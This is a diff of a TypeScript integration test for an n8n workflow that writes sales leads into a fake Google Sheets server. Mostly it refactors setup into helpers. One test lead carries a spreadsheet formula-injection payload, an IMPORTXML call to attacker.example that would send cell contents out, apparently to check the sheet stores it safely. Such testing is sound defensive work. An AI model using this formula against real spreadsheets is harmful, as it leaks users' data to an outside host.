@@ -1,18 +1,14 @@
 /** The example for a Google sheet on a real n8n, with n8n's own node: what is in the sheet afterwards. */
-import { randomUUID } from 'node:crypto';
-import { readFileSync } from 'node:fs';
-
-import { readExample } from '../../scripts/host/demo.ts';
 import type { CredentialRef, WorkflowNode } from '../../scripts/host/rest.ts';
 import { FakeGoogleSheets } from '../fakeServers/googleSheets/googleSheets.ts';
-import { sharedHost } from './support/host.ts';
-import { httpsLead, send } from './support/send.ts';
-import { LiveWorkflow, withCredential } from './support/workflows.ts';
+import { asVendor, sharedHost } from './support/host.ts';
+import { LeadExample } from './support/leadExample.ts';
+import { httpsLead } from './support/send.ts';
+import { withCredential } from './support/workflows.ts';
 
 let sheets: FakeGoogleSheets;
 let credential: CredentialRef;
-let workflow: LiveWorkflow;
-let sent = 0;
+let example: LeadExample;
 
 /** As a user sets the example up: credential and document. */
 function setUp(node: WorkflowNode): WorkflowNode {
@@ -21,43 +17,24 @@ function setUp(node: WorkflowNode): WorkflowNode {
 		const documentId = { __rl: true, mode: 'url', value };
 		return withCredential({ ...node, parameters: { ...node.parameters, documentId } }, credential);
 	}
-	return node.type.endsWith('.marketplaceLeadTrigger')
-		? { ...node, webhookId: randomUUID() }
-		: node;
+	return node;
 }
 
 beforeAll(async () => {
 	const host = await sharedHost();
-	const { authority, vendorPorts } = host.outside;
-	sheets = await new FakeGoogleSheets().start({
-		tls: {
-			cert: readFileSync(authority.tls.certFile, 'utf8'),
-			key: readFileSync(authority.tls.keyFile, 'utf8'),
-		},
-		host: 'sheets.googleapis.com',
-		hidesPort: true,
-		port: vendorPorts['sheets.googleapis.com'],
-	});
+	sheets = await new FakeGoogleSheets().start(asVendor(host.outside, 'sheets.googleapis.com'));
 	// As n8n keeps it once somebody has signed in.
 	credential = await host.rest.createCredential('googleSheetsOAuth2Api', 'Google', {
 		...{ clientId: 'client', clientSecret: 'secret' },
 		oauthTokenData: { access_token: sheets.accessToken, token_type: 'Bearer', refresh_token: 'r' },
 	});
-	const example = await readExample('leads-to-google-sheet.json');
-	workflow = await LiveWorkflow.activate(host, { ...example, nodes: example.nodes.map(setUp) });
+	example = await LeadExample.activate(host, 'leads-to-google-sheet.json', setUp);
 }, 60_000);
 
 afterAll(async () => {
 	await sheets?.stop();
-	await workflow?.remove();
+	await example?.remove();
 });
-
-async function leads(...bodies: object[]): Promise<void> {
-	expect((await send(workflow.url(), bodies)).status).toBe(200);
-	sent += 1;
-	const execution = (await workflow.executions(sent)).at(-1)!;
-	expect([execution.status, execution.error?.message]).toEqual(['success', undefined]);
-}
 
 /** The rows by the names of the columns. */
 function rows(): Array<Record<string, string>> {
@@ -68,12 +45,12 @@ function rows(): Array<Record<string, string>> {
 it('fills an empty sheet, with one row for each lead however often it comes', async () => {
 	const formula = '=IMPORTXML("https://attacker.example?" & A2, "//a")';
 	const lead = httpsLead('Fabrikam', { Description: formula });
-	await leads(lead, httpsLead('Tailspin', { LeadSource: 'SPZA', ActionCode: 'PLT' }));
+	await example.succeed(lead, httpsLead('Tailspin', { LeadSource: 'SPZA', ActionCode: 'PLT' }));
 	// Somebody adds a column, and notes in it.
 	sheets.rows[0]!.push('mine');
 	sheets.rows[2]![16] = 'called';
-	await leads(httpsLead('Tailspin', { LeadSource: 'SPZA', ActionCode: 'PLT' }), lead);
-	await leads(httpsLead('T', { Description: 'MSFT_TEST_636573304831318844' }));
+	await example.succeed(httpsLead('Tailspin', { LeadSource: 'SPZA', ActionCode: 'PLT' }), lead);
+	await example.succeed(httpsLead('T', { Description: 'MSFT_TEST_636573304831318844' }));
 	expect(rows()).toEqual([
 		expect.objectContaining({
 			lead: expect.stringMatching(/^[0-9a-f]{32}$/),
@@ -94,7 +71,9 @@ it('fills an empty sheet, with one row for each lead however often it comes', as
 });
 
 it('keeps nothing of somebody who must not be contacted by which they could be', async () => {
-	await leads(httpsLead('Quiet', { LeadSource: 'SPZA', ActionCode: 'DNC', Description: 'Kim' }));
+	await example.succeed(
+		httpsLead('Quiet', { LeadSource: 'SPZA', ActionCode: 'DNC', Description: 'Kim' }),
+	);
 	const [row] = rows().filter(({ company }) => company === 'Quiet');
 	expect(row).toMatchObject({ contact: 'no', stage: 'doNotContact', offer: 'Contoso Gateway' });
 	for (const name of ['firstName', 'lastName', 'email', 'phone', 'title', 'description']) {
